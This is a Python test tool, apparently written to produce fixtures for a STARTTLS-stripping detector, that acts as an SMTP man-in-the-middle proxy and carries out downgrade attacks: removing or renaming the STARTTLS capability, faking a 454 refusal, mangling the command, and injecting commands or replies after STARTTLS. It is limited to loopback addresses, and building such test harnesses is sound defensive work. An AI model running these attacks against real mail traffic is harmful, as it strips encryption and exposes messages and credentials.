#!/usr/bin/env python3
"""smtp_mitm.py - on-path SMTP proxy that can perform STARTTLS downgrade attacks.

Test tool for stripwatch fixtures (see tests/mkfixtures.sh). Python 3 stdlib only.

It accepts SMTP clients on --listen, connects each one to --upstream and
forwards the conversation. While the session is in plaintext it is
line-aware in both directions (it only forwards complete CRLF lines, one
send() per received chunk, so segment boundaries follow the peers'); once
the server has accepted STARTTLS with a 2xx reply it switches to raw byte
pass-through in both directions (TLS is never touched).

Attacks (--attack NAME), all deterministic:

  none                   forward unchanged
  strip-xxxxxxxa         server EHLO reply: "250-STARTTLS" -> "250-XXXXXXXA"
  strip-xxxxxxxb         server EHLO reply: "250-STARTTLS" -> "250-XXXXXXXB"
  strip-random           server EHLO reply: "STARTTLS" -> 8 random capitals
                         (random.Random(--seed), same token for all conns)
  strip-line-removed     server EHLO reply: the whole STARTTLS line dropped
  starttls-454           client "STARTTLS" is not forwarded; the proxy
                         itself answers "454 4.7.0 TLS not available due
                         to local problem"
  starttls-cmd-mangled   client "STARTTLS" -> "XXXXXXXX" (same length)
                         before it reaches the server
  inject-after-starttls  --inject bytes (default "MAIL FROM:<evil@attacker.test>\\r\\n")
                         appended to the client's STARTTLS line, same send()
                         (CVE-2011-0411 style command injection)
  inject-after-220       --inject bytes (default "250 fake\\r\\n") appended to
                         the server's "220 ... Ready to start TLS" line, same
                         send(), before the TLS ServerHello (response injection)

Every action taken is logged to stderr as a line starting with "ATTACK".
"""

import argparse
import random
import select
import socket
import string
import sys
import threading
import time

ATTACKS = (
    "none",
    "strip-xxxxxxxa",
    "strip-xxxxxxxb",
    "strip-random",
    "strip-line-removed",
    "starttls-454",
    "starttls-cmd-mangled",
    "inject-after-starttls",
    "inject-after-220",
)

DEFAULT_INJECT = {
    "inject-after-starttls": b"MAIL FROM:<evil@attacker.test>\r\n",
    "inject-after-220": b"250 fake\r\n",
}

REPLY_454 = b"454 4.7.0 TLS not available due to local problem\r\n"
MAX_LINE = 65536


def log(msg):
    sys.stderr.write("%s %s\n" % (time.strftime("%H:%M:%S"), msg))
    sys.stderr.flush()


def parse_hostport(s):
    host, _, port = s.rpartition(":")
    host = host.strip("[]") or "127.0.0.1"
    return host, int(port)


def split_eol(line):
    """Return (content, eol) for a line that ends with LF."""
    if line.endswith(b"\r\n"):
        return line[:-2], b"\r\n"
    return line[:-1], b"\n"


def random_token(seed):
    rng = random.Random(seed)
    while True:
        tok = "".join(rng.choice(string.ascii_uppercase) for _ in range(8))
        if tok != "STARTTLS":
            return tok.encode()


class Session:
    def __init__(self, conn_id, csock, ssock, cfg):
        self.id = conn_id
        self.c = csock
        self.s = ssock
        self.cfg = cfg
        self.attack = cfg.attack
        self.raw = False              # TLS pass-through after 2xx to STARTTLS
        self.starttls_pending = False  # STARTTLS forwarded, reply not yet seen
        self.in_data = False          # client is sending message content
        self.cbuf = b""               # partial client line
        self.sbuf = b""               # partial server line
        self.c_eof = False
        self.s_eof = False
        self.fired = 0

    def act(self, what):
        self.fired += 1
        log("ATTACK conn=%d %s: %s" % (self.id, self.attack, what))

    # ---- client -> server -------------------------------------------------
    def client_lines(self, lines):
        to_server, to_client = [], []
        for line in lines:
            content, eol = split_eol(line)
            if self.in_data:
                if content == b".":
                    self.in_data = False
                to_server.append(line)
                continue
            if content.strip().upper() == b"STARTTLS":
                if self.attack == "starttls-454":
                    self.act("client STARTTLS swallowed, proxy replied %r" % REPLY_454)
                    to_client.append(REPLY_454)
                    continue
                if self.attack == "starttls-cmd-mangled":
                    new = b"X" * len(content)
                    self.act("client command %r -> %r" % (content, new))
                    to_server.append(new + eol)
                    continue
                self.starttls_pending = True
                if self.attack == "inject-after-starttls":
                    self.act("injected %r after client STARTTLS (same segment)"
                             % self.cfg.inject)
                    to_server.append(line + self.cfg.inject)
                    continue
            to_server.append(line)
        return to_server, to_client

    # ---- server -> client -------------------------------------------------
    def server_lines(self, lines):
        out = []
        switch_raw = False
        for line in lines:
            content, eol = split_eol(line)
            if switch_raw:
                # Bytes after the 220 in the same chunk: already TLS. Keep raw.
                out.append(line)
                continue
            if content.startswith(b"354"):
                self.in_data = True
            if self.starttls_pending and len(content) >= 4 and content[3:4] == b" ":
                self.starttls_pending = False
                if content.startswith(b"2"):
                    switch_raw = True
                    if self.attack == "inject-after-220":
                        self.act("injected %r after server %r (same segment)"
                                 % (self.cfg.inject, content))
                        out.append(line + self.cfg.inject)
                        continue
                out.append(line)
                continue
            kw = content[4:].strip().upper() if len(content) > 4 else b""
            if content[:3] == b"250" and content[3:4] in (b"-", b" ") and kw == b"STARTTLS":
                if self.attack in ("strip-xxxxxxxa", "strip-xxxxxxxb", "strip-random"):
                    tok = self.cfg.token
                    new = content.replace(b"STARTTLS", tok, 1)
                    if new == content:  # lower-case keyword from some server
                        new = content[:4] + tok + content[12:]
                    self.act("server EHLO line %r -> %r" % (content, new))
                    out.append(new + eol)
                    continue
                if self.attack == "strip-line-removed":
                    self.act("server EHLO line %r removed" % content)
                    if content[3:4] == b" ":
                        # It was the last line: turn the previous one into the last.
                        if out and out[-1][:4] == b"250-":
                            out[-1] = b"250 " + out[-1][4:]
                        else:
                            log("WARNING conn=%d cannot re-terminate EHLO reply" % self.id)
                    continue
            out.append(line)
        return out, switch_raw

    # ---- plumbing -----------------------------------------------------------
    @staticmethod
    def take_lines(buf):
        lines = []
        while True:
            i = buf.find(b"\n")
            if i < 0:
                break
            lines.append(buf[: i + 1])
            buf = buf[i + 1:]
        return lines, buf

    def from_client(self, data):
        if self.raw:
            self.s.sendall(data)
            return
        lines, self.cbuf = self.take_lines(self.cbuf + data)
        to_server, to_client = self.client_lines(lines)
        if len(self.cbuf) > MAX_LINE:
            to_server.append(self.cbuf)
            self.cbuf = b""
        if to_client:
            self.c.sendall(b"".join(to_client))
        if to_server:
            self.s.sendall(b"".join(to_server))

    def from_server(self, data):
        if self.raw:
            self.c.sendall(data)
            return
        lines, rest = self.take_lines(self.sbuf + data)
        out, switch_raw = self.server_lines(lines)
        if switch_raw:
            # Anything not yet line-terminated is TLS already.
            out.append(rest)
            rest = b""
            self.raw = True
            # Client bytes buffered without newline (cannot normally exist) go raw too.
            if self.cbuf:
                self.s.sendall(self.cbuf)
                self.cbuf = b""
            log("conn=%d STARTTLS accepted by server, raw pass-through" % self.id)
        self.sbuf = rest
        if len(self.sbuf) > MAX_LINE:
            out.append(self.sbuf)
            self.sbuf = b""
        if out:
            self.c.sendall(b"".join(out))

    def run(self):
        try:
            while not (self.c_eof and self.s_eof):
                rl = []
                if not self.c_eof:
                    rl.append(self.c)
                if not self.s_eof:
                    rl.append(self.s)
                r, _, _ = select.select(rl, [], [], self.cfg.idle_timeout)
                if not r:
                    log("conn=%d idle timeout, closing" % self.id)
                    break
                for sock in r:
                    try:
                        data = sock.recv(65536)
                    except ConnectionResetError:
                        data = b""
                    if sock is self.c:
                        if data:
                            self.from_client(data)
                        else:
                            self.c_eof = True
                            if self.cbuf:
                                self.s.sendall(self.cbuf)
                                self.cbuf = b""
                            self.half_close(self.s)
                    else:
                        if data:
                            self.from_server(data)
                        else:
                            self.s_eof = True
                            if self.sbuf:
                                self.c.sendall(self.sbuf)
                                self.sbuf = b""
                            self.half_close(self.c)
        except OSError as e:
            log("conn=%d socket error: %s" % (self.id, e))
        finally:
            for sock in (self.c, self.s):
                try:
                    sock.close()
                except OSError:
                    pass
            log("conn=%d closed (attack actions: %d)" % (self.id, self.fired))

    @staticmethod
    def half_close(sock):
        try:
            sock.shutdown(socket.SHUT_WR)
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--listen", default="127.0.0.1:10125", help="HOST:PORT to accept clients on")
    ap.add_argument("--upstream", default="127.0.0.1:10025", help="HOST:PORT of the real SMTP server")
    ap.add_argument("--attack", default="none", choices=ATTACKS)
    ap.add_argument("--seed", type=int, default=1, help="seed for strip-random (default 1)")
    ap.add_argument("--inject", default=None,
                    help="bytes to inject (Python escapes allowed, e.g. 'RSET\\r\\n')")
    ap.add_argument("--max-conns", type=int, default=0,
                    help="exit after this many connections have finished (0 = run forever)")
    ap.add_argument("--idle-timeout", type=float, default=60.0)
    ap.add_argument("--ready-file", help="create this file once listening")
    cfg = ap.parse_args()

    for name in ("listen", "upstream"):
        host, _ = parse_hostport(getattr(cfg, name))
        if not (host.startswith("127.") or host == "::1" or host == "localhost"):
            ap.error("--%s must be a loopback address" % name)

    if cfg.inject is not None:
        cfg.inject = cfg.inject.encode("latin-1").decode("unicode_escape").encode("latin-1")
    else:
        cfg.inject = DEFAULT_INJECT.get(cfg.attack, b"")
    cfg.token = {"strip-xxxxxxxa": b"XXXXXXXA", "strip-xxxxxxxb": b"XXXXXXXB"}.get(
        cfg.attack, random_token(cfg.seed))

    lhost, lport = parse_hostport(cfg.listen)
    fam = socket.AF_INET6 if ":" in lhost else socket.AF_INET
    lsock = socket.socket(fam, socket.SOCK_STREAM)
    lsock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    lsock.bind((lhost, lport))
    lsock.listen(16)
    log("listening on %s, upstream %s, attack=%s%s" % (
        cfg.listen, cfg.upstream, cfg.attack,
        " token=%s" % cfg.token.decode() if cfg.attack == "strip-random" else ""))
    if cfg.ready_file:
        open(cfg.ready_file, "w").close()

    threads = []
    conn_id = 0
    try:
        while cfg.max_conns == 0 or conn_id < cfg.max_conns:
            csock, peer = lsock.accept()
            conn_id += 1
            log("conn=%d accepted from %s:%d" % (conn_id, peer[0], peer[1]))
            try:
                ssock = socket.create_connection(parse_hostport(cfg.upstream), timeout=10)
                ssock.settimeout(None)
            except OSError as e:
                log("conn=%d upstream connect failed: %s" % (conn_id, e))
                csock.close()
                continue
            for sk in (csock, ssock):
                sk.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            t = threading.Thread(target=Session(conn_id, csock, ssock, cfg).run, daemon=True)
            t.start()
            threads.append(t)
    except KeyboardInterrupt:
        pass
    finally:
        lsock.close()
    for t in threads:
        t.join()
    return 0


if __name__ == "__main__":
    sys.exit(main())
